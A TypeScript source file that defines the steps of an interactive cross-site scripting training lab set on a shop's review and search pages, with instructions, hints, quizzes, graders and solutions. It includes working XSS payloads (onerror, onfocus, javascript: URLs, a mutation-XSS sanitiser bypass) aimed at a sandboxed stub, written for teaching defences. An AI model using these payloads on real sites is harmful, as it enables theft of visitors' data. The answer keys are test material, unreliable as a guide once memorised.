import { solved, unsolved, type Verdict } from '../definition.ts';
import type { RigStep } from '../../rig/lab.ts';
import { type Shown, type Visit, type XssRun, EARLIER_NONCE } from './run.ts';
import { textOf } from './template.ts';
import { type Input, MARKER, readWritten } from './written.ts';

/** A step with those for whom the lab has the page made, beside the reader. */
export interface XssStep extends RigStep<XssRun> {
  readonly visits: readonly Visit[];
}

const ADDRESS = '14 Mill Lane';

const written = (heads: string, page: string) => `${heads}\n${MARKER}\n${page}`;
const attacks = (input: Input, values: readonly string[]): readonly Visit[] =>
  values.map((value) => ({ who: 'attack', inputs: { [input]: value } }));
const honest = (input: Input, value: string): Visit => ({
  who: 'honest',
  inputs: { [input]: value },
});

const byWho = ({ pages }: XssRun, who: Visit['who']) => pages.filter((page) => page.who === who);
const unchanged = (text: string, start: string) =>
  readWritten(text).page.trim() === readWritten(start).page.trim();

const NO_RUN = unsolved('The lab could not read the text; see the message below.');

/** The goal of an attack: what came in has run, on the shop’s page as it is. */
const attacked =
  (start: string, isReached: (page: Shown) => boolean, missed: string, says: string) =>
  (run: XssRun, text: string): Verdict => {
    const [yours] = byWho(run, 'yours');
    if (yours === undefined) return NO_RUN;
    if (!unchanged(text, start)) {
      return unsolved(
        `The shop’s page was changed. Attack it as it is: only with the lines above “${MARKER}”.`,
      );
    }
    if (yours.ran.length === 0) return unsolved('Nothing ran: `leak` was never called.');
    return isReached(yours) ? solved(says) : unsolved(missed);
  };

interface Defence {
  /** Whether somebody without bad intent got what the page is for. */
  readonly isRight: (page: Shown) => boolean;
  readonly missed: string;
  /** What else has to hold, or what to say. */
  readonly more?: (run: XssRun) => string | undefined;
  readonly says: string;
}

/** The goal of a defence: no attack of the lab’s ran, and the page still does its work. */
const defended =
  ({ isRight, missed, more, says }: Defence) =>
  (run: XssRun): Verdict => {
    if (run.pages.length === 0) return NO_RUN;
    const lost = byWho(run, 'attack').find(({ ran }) => ran.length > 0);
    if (lost !== undefined) {
      const [input = ''] = Object.values(lost.inputs);
      return unsolved(`An attack of the lab’s still runs: \`${input.replaceAll('`', '’')}\``);
    }
    if (!byWho(run, 'honest').every(isRight)) return unsolved(missed);
    const lacking = more?.(run);
    return lacking === undefined ? solved(says) : unsolved(lacking);
  };

const PART = '<h1>Brake pad set, front</h1>';
const REVIEWS = `${PART}
<p>Deliver to: <span id="address">${ADDRESS}</span></p>
<h2>Reviews</h2>
<p>{{ raw review }}</p>`;

const STORED_START = written('review: Stops at once, even in the rain.', REVIEWS);
const THEFT = '<img src=x onerror="leak(address.textContent)">';

const stored: XssStep = {
  id: 'stored',
  title: 'A review that runs',
  text: [
    'The shop keeps what customers write, and its page puts the review in **raw**. Whoever opens this page afterwards gets your review with it: that is **stored** cross-site scripting. Everything here runs in a sandboxed frame that has no cookies, no storage and no way to the network. A script that never ends may freeze this tab in some browsers; others stop it after the time limit.',
    '`leak(…)` stands for the attacker’s own server: what it is called with is lost.',
    `Write a review that calls it with the address of the customer, which the page shows in the element with the id \`address\`. Leave the page below \`${MARKER}\` as it is.`,
  ],
  start: STORED_START,
  visits: [],
  hints: [
    'Text between tags is read as a page: a tag in it becomes an element.',
    'An element may bring a script of its own: a `script` tag, or an attribute such as `onerror` on an `img` that cannot load.',
    'An element’s text is `address.textContent`.',
  ],
  solution: written(`review: ${THEFT}`, REVIEWS),
  check: attacked(
    STORED_START,
    ({ ran }) => ran.some((what) => what.includes(ADDRESS)),
    'Your script ran. Call `leak` with the address that the page shows.',
    '**How an attacker thinks:** the shop keeps my text and shows it to others, so their browsers run it as the shop’s own. **What really stops it:** writing the text so that it stays text. The next step does that.',
  ),
};

const TEXT_START = written(`review: ${THEFT}`, REVIEWS);
const HONEST_REVIEW = 'Fits a 2" hub & costs <50, it\'s <i>fine</i>';

const text: XssStep = {
  id: 'text',
  title: 'Keep text as text',
  text: [
    'A template writes a value in a way that suits its place. `{{ raw review }}` writes it as it came. `{{ html review }}` writes the five signs that mean something between tags as character references: `<` becomes `&lt;`.',
    'Mend the page: every review is to be read as it was typed. On each run the lab sends a few reviews of its own, honest ones and attacks.',
  ],
  start: TEXT_START,
  visits: [
    honest('review', HONEST_REVIEW),
    ...attacks('review', [
      '<img src=x onerror=leak()>',
      '<script>leak()</script>',
      '</p><svg onload=leak()>',
    ]),
  ],
  hints: ['Only one word of the page has to change.', 'Put `html` where `raw` stands.'],
  solution: TEXT_START.replace('raw review', 'html review'),
  predict: {
    question: 'What does a visitor read once the review is written with `html`?',
    options: [
      'Nothing: the tag is taken out',
      'The tag, sign by sign as it was typed',
      '`&lt;img src=x …`',
    ],
    answer: 1,
    explanation:
      'A character reference is read as its sign, and never as the beginning of a tag. Nothing is lost, and nothing has to be forbidden.',
  },
  check: defended({
    isRight: ({ seen }) => seen?.text.includes(HONEST_REVIEW) === true,
    missed: `No attack ran, but the honest review is not read as it was typed: \`${HONEST_REVIEW}\``,
    says: '**What really stops it:** encoding at the moment of output, for text between tags. The review in the database stays as it was typed. Frameworks do this by default; search for the places where somebody turned it off.',
  }),
};

const SEARCH = `<h1>Search</h1>
<form><input name=q value={{ html search }}></form>
<p>No results for {{ html search }}.</p>
<p>Logged in as <span id="customer">customer-7</span></p>`;
const REFLECTED_START = written('search: brake', SEARCH);

const reflected: XssStep = {
  id: 'reflected',
  title: 'The right escape in the wrong place',
  text: [
    'The search repeats the words of its address, and somebody can send you a link with words of theirs: **reflected** cross-site scripting. Both places write the words with `html`, so no tag can begin. The first place is an attribute without quotes.',
    'Find words that call `leak`. In the frame a visitor of the lab’s points at everything and enters every field.',
  ],
  start: REFLECTED_START,
  visits: [],
  hints: [
    'What ends a value that has no quotes? It is none of the five signs.',
    'After a space the next attribute begins, and it may be an event handler.',
    'A field that is entered gets the event `focus`: `onfocus=…`',
  ],
  solution: written('search: brake onfocus=leak(customer.textContent)', SEARCH),
  predict: {
    question:
      'Which of the five signs `& < > " \'` does an attack on `value={{ html search }}` need?',
    options: ['`<`, to begin a tag', 'A quote, to leave the value', 'None of them'],
    answer: 2,
    explanation:
      'Without quotes a space ends the value. An attribute such as `onfocus=leak()` needs neither a bracket nor a quote.',
  },
  check: attacked(
    REFLECTED_START,
    () => true,
    '',
    '**How an attacker thinks:** each place of a page has its own end sign. Five signs are watched, so I take a sixth. **What really stops it:** quotes around every attribute, and an escape that is made for attributes.',
  ),
};

const HONEST_SEARCH = '3" disc & pads';

const attribute: XssStep = {
  id: 'attribute',
  title: 'Stay inside an attribute',
  text: [
    'Two repairs are right. Quotes around the value, since `html` writes quotes as references. Or `attribute`, which writes every sign but letters and digits as a number: then even a space stays inside.',
    'Mend the search. The field has to hold the very words that were searched.',
  ],
  start: written('search: brake onfocus=leak(customer.textContent)', SEARCH),
  visits: [
    honest('search', HONEST_SEARCH),
    ...attacks('search', [
      'x onfocus=leak()',
      '" onfocus="leak()',
      "' onmouseover='leak()",
      'x><img src=x onerror=leak()>',
    ]),
  ],
  hints: [
    'Look at what stands directly before and behind the first gap.',
    'Write `value="{{ html search }}"`.',
  ],
  solution: written(
    'search: brake onfocus=leak(customer.textContent)',
    SEARCH.replace('value={{ html search }}', 'value="{{ html search }}"'),
  ),
  check: defended({
    isRight: ({ seen }) =>
      seen?.fields.includes(HONEST_SEARCH) === true && seen.text.includes(HONEST_SEARCH),
    missed: `No attack ran, but the words \`${HONEST_SEARCH}\` are not all in the field and in the text.`,
    says: '**What really stops it:** the value cannot leave its quotes, because each quote in it is written as a reference. A linter that demands quotes costs nothing.',
  }),
};

const LINK = `<h1>Reviews by Ana</h1>
<p><a href="{{ html site }}">Ana’s own page</a></p>`;
const HONEST_SITE = 'https://brakes.example/a?b=1&c=2';

const link: XssStep = {
  id: 'link',
  title: 'An address that is a script',
  text: [
    'Reviewers may name a page of their own. The value stands in quotes and is written with `html`, so it cannot leave the attribute. It need not: an address that begins with `javascript:` is a script, which runs when the link is followed.',
    'One part is a MODEL: browsers follow no such link in a sandboxed frame. So the lab’s visitor runs what stands behind the scheme, under the same policy.',
    `Mend the page. \`${HONEST_SITE}\` has to stay a link.`,
  ],
  start: written('site: javascript:leak()', LINK),
  visits: [
    honest('site', HONEST_SITE),
    ...attacks('site', [
      'javascript:leak()',
      'JaVaScRiPt:leak()',
      ' java\tscript:leak()',
      '" onfocus="leak()',
    ]),
  ],
  hints: [
    'No sign in this address is dangerous by itself. Its scheme is.',
    'There is a way to write addresses: `url` takes `http`, `https` and `mailto`, and nothing else.',
  ],
  solution: written('site: javascript:leak()', LINK.replace('html site', 'url site')),
  predict: {
    question:
      'Somebody refuses addresses that begin with `javascript:`. What about one with a space in front and a tab between `java` and `script:`?',
    options: [
      'It is no script: the browser does not know this scheme',
      'It runs: the browser drops the space and the tab',
      'It is a fault, and the link leads nowhere',
    ],
    answer: 1,
    explanation:
      'Browsers drop tabs and line breaks in an address and spaces around it. So read the address as they do, with `new URL`, and allow the schemes that you want instead of forbidding those that you know.',
  },
  check: defended({
    isRight: ({ seen }) => seen?.links.includes(HONEST_SITE) === true,
    missed: `No attack ran, but the link to \`${HONEST_SITE}\` is lost.`,
    says: '**What really stops it:** a list of schemes that are allowed, checked on the address as a browser reads it, and an escape for the attribute on top.',
  }),
};

const HELLO = `<h1>Your account</h1>
<p id="hello"></p>
<script>
const name = "{{ raw name }}";
hello.textContent = "Hello, " + name;
</script>`;
const HONEST_NAME = 'Zoë O\'Neill & "Sons" <Hull>';

const json: XssStep = {
  id: 'json',
  title: 'Data inside a script',
  text: [
    'Pages often hand data to their script like this: the server writes a name between two quotes of JavaScript. References such as `&quot;` are not read inside a script, so `html` spoils the name and protects little. `json` writes a literal of JavaScript **with its quotes**, in which `<` is written as `\\u003c`.',
    `Mend the page. \`${HONEST_NAME}\` is to be greeted by that very name.`,
  ],
  start: written('name: ";leak(hello.id);"', HELLO),
  visits: [
    honest('name', HONEST_NAME),
    ...attacks('name', [
      '";leak();"',
      '</script><img src=x onerror=leak()>',
      '\\";leak();//',
      '`${leak()}`',
    ]),
  ],
  hints: [
    'Which sign ends a text in JavaScript? Which tag ends the script, wherever it stands?',
    '`json` brings the quotes along, so those of the page have to go.',
    'The line is `const name = {{ json name }};`',
  ],
  solution: written(
    'name: ";leak(hello.id);"',
    HELLO.replace('"{{ raw name }}"', '{{ json name }}'),
  ),
  predict: {
    question: 'A name holds `</script>`, inside the quotes of a JavaScript text. What happens?',
    options: [
      'It is a part of the text, as it stands in quotes',
      'The script ends there, and the rest is read as a page',
      'The browser refuses the script for its error, and that is all',
    ],
    answer: 1,
    explanation:
      'HTML is read first, and it knows no quotes of JavaScript: the first `</script>` ends the script. What follows is a page again, and may hold tags that run.',
  },
  check: defended({
    isRight: ({ seen }) => seen?.text.includes(`Hello, ${HONEST_NAME}`) === true,
    missed: `No attack ran, but the greeting is not \`Hello, ${HONEST_NAME}\``,
    says: '**What really stops it:** an escape for this place, which knows both languages: quotes and backslashes for JavaScript, brackets for HTML. Better still, put data into a `data-` attribute or fetch it as JSON, and keep scripts in files.',
  }),
};

const WORDS = `<h1>Search</h1>
<p>You looked for <b id="words"></b></p>
<p>Logged in as <span id="customer">customer-7</span></p>
<script>
words.innerHTML = decodeURIComponent(location.hash.slice(1));
</script>`;
const DOM_START = written('hash: brake pads', WORDS);

const dom: XssStep = {
  id: 'dom',
  title: 'The server never saw it',
  text: [
    'This page writes nothing from outside. Its own script reads the part of the address behind `#` and puts it into the page with `innerHTML`. Browsers do not send that part, so no server and no log can see it: **DOM-based** cross-site scripting.',
    'Find a `hash` that calls `leak`. Leave the page as it is.',
  ],
  start: DOM_START,
  visits: [],
  hints: [
    'What is put in with `innerHTML` is read as a page, with one exception.',
    'A `script` tag is that exception: put in this way, it never runs. An event handler does.',
  ],
  solution: written('hash: <img src=x onerror=leak(customer.textContent)>', WORDS),
  predict: {
    question: 'Does `#<script>leak()</script>` run?',
    options: [
      'Yes, like any script of the page',
      'No: `innerHTML` makes the element and does not run it',
      'No: browsers take scripts out of addresses',
    ],
    answer: 1,
    explanation:
      'The standard marks scripts that come through `innerHTML` as already started. That stops this one spelling, and none of those with event handlers.',
  },
  check: attacked(
    DOM_START,
    () => true,
    '',
    '**How an attacker thinks:** a link is enough, and the server will never know. **What really stops it:** `textContent` where text is meant. Step 10 makes the browser insist on it.',
  ),
};

const RICH = `${PART}
<blockquote>{{ html review }}</blockquote>`;
const HONEST_RICH = 'Stops <b>at once</b>, see <a href="https://brakes.example/test">the test</a>';

const sanitise: XssStep = {
  id: 'sanitise',
  title: 'Where tags are wanted',
  text: [
    'Reviewers may now write in bold and set links. `html` shows their tags as letters, and `raw` runs whatever comes. A **sanitiser** reads the text as a browser does, keeps what is on its list and drops the rest: `{{ sanitise review }}` does it with DOMPurify, for real.',
    `Mend the page. The honest review of the lab’s is \`${HONEST_RICH}\`: its bold words and its link are to stay.`,
  ],
  start: written(`review: ${HONEST_RICH}`, RICH),
  visits: [
    honest('review', HONEST_RICH),
    ...attacks('review', [
      '<b onmouseover=leak()>fine</b>',
      '<a href="javascript:leak()">the test</a>',
      '<svg><animate onbegin=leak() attributeName=x dur=1s>',
      '<form><math><mtext></form><form><mglyph><style></math><img src onerror=leak()>',
    ]),
  ],
  hints: [
    'Compare `html`, `raw` and `sanitise` by running each of them.',
    'Put `sanitise` where `html` stands.',
  ],
  solution: written(`review: ${HONEST_RICH}`, RICH.replace('html review', 'sanitise review')),
  predict: {
    question: 'Why not take out `<script>` and `on…=` with a search and replace?',
    options: [
      'It is slower than a library',
      'Browsers read a page otherwise than a search reads its text',
      'It works, as long as capital letters are covered',
    ],
    answer: 1,
    explanation:
      'A browser repairs broken pages while it reads them: tags move, close and change their meaning. The last attack of the lab’s is broken in that way. Only what reads as a browser does can tell what will run.',
  },
  check: defended({
    isRight: ({ seen }) =>
      seen?.body.includes('<b>at once</b>') === true &&
      seen.links.includes('https://brakes.example/test'),
    missed: 'No attack ran, but the honest review has lost its bold words or its link.',
    says: '**What really stops it:** a maintained sanitiser with a short list, run where the text is shown, and updated. Its own mistakes are found now and then, which is why the next two steps add a second wall.',
  }),
};

const OPEN = `${PART}
<p>In stock: <span id="stock">unknown</span></p>
<blockquote>{{ raw review }}</blockquote>
<script nonce="{{ nonce }}">
stock.textContent = 12;
</script>`;

const sentRaw = ({ sent, inputs }: Shown) =>
  inputs.review !== undefined && textOf(sent).includes(inputs.review);

const policy: XssStep = {
  id: 'policy',
  title: 'A policy for what slips through',
  text: [
    'Somebody has missed a `raw`, as somebody always does. Leave it there for once. The line `policy:` is the value of the header `Content-Security-Policy`, and the browser in your hands enforces it. `{{ nonce }}` is a random text that the shop makes anew for each answer.',
    'Write a policy under which the page’s own script fills in the stock, and no script from a review runs.',
  ],
  start: written("review: <img src=x onerror=leak()>\npolicy: script-src 'unsafe-inline'", OPEN),
  visits: [
    honest('review', 'Stops at once.'),
    ...attacks('review', [
      '<img src=x onerror=leak()>',
      '<script>leak()</script>',
      `<script nonce="${EARLIER_NONCE}">leak()</script>`,
      '<a href="javascript:leak()">the test</a>',
    ]),
  ],
  hints: [
    "`'unsafe-inline'` allows every script in the page, whoever wrote it.",
    'A source such as `\'nonce-abc\'` allows the script tags that carry `nonce="abc"`. An attacker must not know it beforehand.',
    "The policy is `script-src 'nonce-{{ nonce }}'`.",
  ],
  solution: written(
    "review: <img src=x onerror=leak()>\npolicy: script-src 'nonce-{{ nonce }}'",
    OPEN,
  ),
  predict: {
    question:
      "A policy says `script-src 'unsafe-inline'`. What does it stop of a script inside the page?",
    options: ['Nothing', 'Event handlers, and no script tags', 'Everything without a nonce'],
    answer: 0,
    explanation:
      'The keyword allows all scripts that stand in the page, and those of an attacker stand in the page. A nonce tells one script from another.',
  },
  check: defended({
    isRight: ({ seen }) => seen?.text.includes('In stock: 12') === true,
    missed: 'No attack ran, but neither did the page’s own script: the stock is missing.',
    more: (run) => {
      const all = byWho(run, 'attack');
      if (!all.every(sentRaw)) {
        return 'The reviews are not sent raw any more. That is right, and another step: here the policy alone has to stop them.';
      }
      return all.every(({ blocked }) => blocked.length > 0)
        ? undefined
        : 'No attack ran, but it was not the policy that stopped each of them.';
    },
    says: '**What really stops it:** still the escape. The policy is the second wall: for the one `raw` that was missed it makes a report out of a theft. A nonce that stays the same from answer to answer is no wall at all.',
  }),
};

const TYPED = `<h1>Search</h1>
<p>You looked for <b id="words"></b></p>
<script>
const text = decodeURIComponent(location.hash.slice(1));
words.innerHTML = text;
</script>`;
const HONEST_WORDS = '2" <hub> & disc';
const ATTACK_HASH = 'hash: <img src=x onerror=leak()>';

const trustedTypes: XssStep = {
  id: 'trusted-types',
  title: 'Let the browser refuse the sink',
  text: [
    "The page of step 7 again. With the policy `require-trusted-types-for 'script'` a browser refuses plain text in `innerHTML` and its like, wherever it comes from (**Trusted Types**). It does not mend the page: the script then breaks, and nobody sees their words.",
    `Write that policy, and mend the script so that \`${HONEST_WORDS}\` is shown as it was searched.`,
  ],
  start: written(`${ATTACK_HASH}\npolicy: script-src 'unsafe-inline'`, TYPED),
  visits: [
    honest('hash', HONEST_WORDS),
    ...attacks('hash', [
      '<img src=x onerror=leak()>',
      '<svg onload=leak()>',
      '</b><b onfocus=leak()>',
    ]),
  ],
  hints: [
    'Add the policy first and run: the list of what was blocked names the line that has to change.',
    'Where text is meant, `textContent` is no sink.',
  ],
  solution: written(
    `${ATTACK_HASH}\npolicy: require-trusted-types-for 'script'`,
    TYPED.replace('innerHTML', 'textContent'),
  ),
  predict: {
    question:
      'The policy is on, and the script still uses `innerHTML`. What does an honest visitor see?',
    options: [
      'Their words, made harmless by the browser',
      'An empty place: the assignment throws an error',
      'Their words as they are: only attacks are refused',
    ],
    answer: 1,
    explanation:
      'A browser cannot know what is meant. It refuses every plain text at this sink, so the places that have to be mended show themselves in testing.',
  },
  check: defended({
    isRight: ({ seen }) => seen?.text.includes(HONEST_WORDS) === true,
    missed: `No attack ran, but \`${HONEST_WORDS}\` is not shown as it was searched.`,
    more: ({ pages }) => {
      const all = pages.map(({ seen }) => seen?.trustedTypes);
      if (all.includes('missing')) {
        return 'Your page is mended, but this browser has no Trusted Types, so it cannot show them. The recorded result below can.';
      }
      return all.every((each) => each === 'enforced')
        ? undefined
        : 'The page is mended, but its sinks still take plain text: the policy is missing.';
    },
    says: '**What really stops it:** a sink that takes no plain text cannot be fed by mistake, by nobody, in no file. This guide runs under the same rule.',
  }),
};

export const STEPS: readonly XssStep[] = [
  stored,
  text,
  reflected,
  attribute,
  link,
  json,
  dom,
  sanitise,
  policy,
  trustedTypes,
];

/** Those for whom the page of a step is made beside the reader. */
export const visitsOf = (step: string): readonly Visit[] =>
  STEPS.find(({ id }) => id === step)?.visits ?? [];
